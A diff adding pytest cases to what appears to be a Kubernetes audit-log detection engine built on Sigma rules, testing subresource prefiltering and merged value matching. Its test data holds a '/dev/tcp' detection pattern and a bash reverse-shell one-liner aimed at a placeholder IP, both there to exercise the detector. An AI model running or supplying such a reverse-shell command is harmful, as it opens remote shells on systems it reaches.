@@ -98,6 +98,10 @@ CASES = [
         True,
     ),
     ("m-windash", nothing, False),
+    ("m-subresource", nothing, True),
+    ("m-subresource", setter("objectRef/subresource", "attach"), False),
+    ("m-no-subresource", nothing, False),
+    ("m-no-subresource", setter("objectRef/subresource", None), True),
 ]
 
 
@@ -128,8 +132,80 @@ def test_annotation_key_with_dots_is_matched_whole(engine_factory: Callable[[], 
 
 def test_prefilter_only_offers_rules_that_can_match(engine_factory: Callable[[], Engine]) -> None:
     engine = engine_factory()
-    create_pods = {r.info.title for r in engine.candidates("create", "pods")}
+    create_pods = {r.info.title for r in engine.candidates("create", "pods", "exec")}
     update_leases = {r.info.title for r in engine.candidates("update", "leases")}
     assert "m-plain" in create_pods and "m-plain" not in update_leases
     assert "m-ecs" in create_pods and "m-ecs" not in update_leases
     assert "m-cidr" in update_leases  # no verb or resource in its condition: always a candidate
+
+
+def test_prefilter_keys_on_subresource(engine_factory: Callable[[], Engine]) -> None:
+    engine = engine_factory()
+    assert "m-subresource" in {r.info.title for r in engine.candidates("create", "pods", "exec")}
+    assert "m-subresource" not in {r.info.title for r in engine.candidates("get", "pods")}
+    assert "m-no-subresource" in {r.info.title for r in engine.candidates("create", "pods")}
+    assert "m-no-subresource" not in {
+        r.info.title for r in engine.candidates("create", "pods", "exec")
+    }
+
+
+# Alternatives of every shape the matcher merges (and some it does not), against values of
+# every JSON type: the merged test must answer as the alternatives tried one by one.
+# 403/"403"/403.0 and True/"true"/1 hash alike or compare alike: the memo must not mix them.
+ALTERNATIVES: list[Any] = [
+    "Exec",
+    "system:*",
+    "*.sh",
+    "*/dev/tcp*",
+    "a?c",
+    403,
+    2.5,
+    True,
+    "10.0.0.0/8",
+]
+EVENT_VALUES: list[Any] = [
+    "exec",
+    "EXEC",
+    "execs",
+    "System:Admin",
+    "x/run.SH",
+    "bash -i >& /DEV/TCP/1.2.3.4/9",
+    "abc",
+    "ABC",
+    "403",
+    403,
+    403.0,
+    1,
+    "1",
+    "2.5",
+    2.5,
+    True,
+    "true",
+    False,
+    None,
+    "",
+    {"a": 1},
+    "10.1.2.3",
+    "192.168.0.1",
+]
+
+
+@pytest.mark.parametrize("count", range(1, len(ALTERNATIVES) + 1))
+def test_merged_alternatives_answer_like_each_alone(count: int) -> None:
+    from sigma.types import SigmaBool, SigmaCIDRExpression, SigmaNumber, SigmaString, SigmaType
+
+    from kubetrail.detect.lists import NamedLists
+    from kubetrail.detect.matcher import value_test, value_tests
+
+    def sigma(value: Any) -> SigmaType:
+        if isinstance(value, bool):
+            return SigmaBool(value)
+        if isinstance(value, str) and value.endswith("/8"):
+            return SigmaCIDRExpression(value)
+        return SigmaNumber(value) if isinstance(value, int | float) else SigmaString(value)
+
+    alternatives = [sigma(v) for v in ALTERNATIVES[:count]]
+    merged = value_tests(alternatives, NamedLists())
+    alone = [value_test(a, NamedLists()) for a in alternatives]
+    for value in EVENT_VALUES * 2:  # twice: the second answer comes from the memo
+        assert merged(value) is any(t(value) for t in alone), value
